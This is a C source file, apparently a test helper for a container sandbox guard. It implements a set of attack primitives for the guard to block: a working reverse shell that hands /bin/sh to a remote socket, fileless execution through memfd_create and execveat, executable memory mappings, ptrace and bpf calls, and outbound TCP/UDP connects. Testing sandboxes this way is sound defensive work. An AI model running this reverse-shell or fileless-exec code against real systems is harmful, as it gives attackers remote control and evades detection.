/* Attacks for the guard tests, run inside guarded busybox containers (linked statically).
 * Each prints what happened so the test can assert on it:
 *   attack revshell HOST PORT   connect, dup2 the socket onto 0/1/2, exec /bin/sh -i
 *   attack spawn HOST PORT      connect, start /bin/sh in a child with the socket as its stdio
 *   attack memfd                copy /bin/busybox into a memfd, fexecve it (echo FILELESS-RAN)
 *   attack execveat             the same through execveat(AT_EMPTY_PATH)
 *   attack mprotect             anonymous RW page made executable
 *   attack mmapwx               anonymous RWX mapping
 *   attack ptrace               ptrace(PTRACE_TRACEME)
 *   attack bpf                  bpf(BPF_MAP_CREATE)
 *   attack connect HOST PORT    TCP connect
 *   attack udp HOST PORT        UDP sendto */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int tcp_connect(const char* host, const char* port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
  inet_pton(AF_INET, host, &a.sin_addr);
  if (connect(s, (struct sockaddr*)&a, sizeof(a)) != 0) {
    printf("connect: %s\n", strerror(errno));
    fflush(stdout);
    return -1;
  }
  printf("connect: ok\n");
  fflush(stdout);
  return s;
}

static int copy_busybox(int fd) {
  int in = open("/bin/busybox", O_RDONLY);
  if (in < 0) return -1;
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof(buf))) > 0)
    if (write(fd, buf, (size_t)n) != n) return -1;
  close(in);
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const char* what = argv[1];
  char* sh[] = {"sh", "-i", NULL};
  char* echo[] = {"busybox", "echo", "FILELESS-RAN", NULL};
  char* env[] = {"PATH=/bin", NULL};
  if (!strcmp(what, "revshell") && argc == 4) {
    int s = tcp_connect(argv[2], argv[3]);
    if (s < 0) return 1;
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    execve("/bin/sh", sh, env);
    return 127;
  }
  if (!strcmp(what, "spawn") && argc == 4) {
    int s = tcp_connect(argv[2], argv[3]);
    if (s < 0) return 1;
    pid_t p = fork();
    if (p == 0) {
      dup2(s, 0);
      dup2(s, 1);
      dup2(s, 2);
      execve("/bin/sh", sh, env);
      _exit(127);
    }
    close(s);
    int st = 0;
    waitpid(p, &st, 0);
    if (WIFSIGNALED(st))
      printf("shell: killed by signal %d\n", WTERMSIG(st));
    else
      printf("shell: exited %d\n", WEXITSTATUS(st));
    return 0;
  }
  if (!strcmp(what, "memfd") || !strcmp(what, "execveat")) {
    int fd = memfd_create("payload", MFD_CLOEXEC);
    if (fd < 0) {
      printf("memfd_create: %s\n", strerror(errno));
      return 1;
    }
    if (copy_busybox(fd) != 0) {
      printf("copy: %s\n", strerror(errno));
      return 1;
    }
    fflush(stdout);
    if (!strcmp(what, "memfd"))
      fexecve(fd, echo, env);
    else
      syscall(SYS_execveat, fd, "", echo, env, AT_EMPTY_PATH);
    printf("exec: %s\n", strerror(errno));
    return 1;
  }
  if (!strcmp(what, "mprotect")) {
    void* p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int r = mprotect(p, 4096, PROT_READ | PROT_EXEC);
    printf("mprotect: %s\n", r == 0 ? "ok" : strerror(errno));
    return 0;
  }
  if (!strcmp(what, "mmapwx")) {
    void* p =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    printf("mmap: %s\n", p != MAP_FAILED ? "ok" : strerror(errno));
    return 0;
  }
  if (!strcmp(what, "ptrace")) {
    long r = ptrace(PTRACE_TRACEME, 0, 0, 0);
    printf("ptrace: %s\n", r == 0 ? "ok" : strerror(errno));
    return 0;
  }
  if (!strcmp(what, "bpf")) {
    union bpf_attr a;
    memset(&a, 0, sizeof(a));
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a));
    printf("bpf: %s\n", r >= 0 ? "ok" : strerror(errno));
    return 0;
  }
  if (!strcmp(what, "hello")) { /* proof that this program, wherever it came from, ran */
    printf("HELLO-RAN\n");
    return 0;
  }
  if (!strcmp(what, "connect") && argc == 4) return tcp_connect(argv[2], argv[3]) < 0;
  if (!strcmp(what, "udp") && argc == 4) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET,
                            .sin_port = htons((unsigned short)atoi(argv[3]))};
    inet_pton(AF_INET, argv[2], &a.sin_addr);
    ssize_t r = sendto(s, "x", 1, 0, (struct sockaddr*)&a, sizeof(a));
    printf("sendto: %s\n", r == 1 ? "ok" : strerror(errno));
    return r != 1;
  }
  fprintf(stderr, "attack: unknown or incomplete command %s\n", what);
  return 2;
}
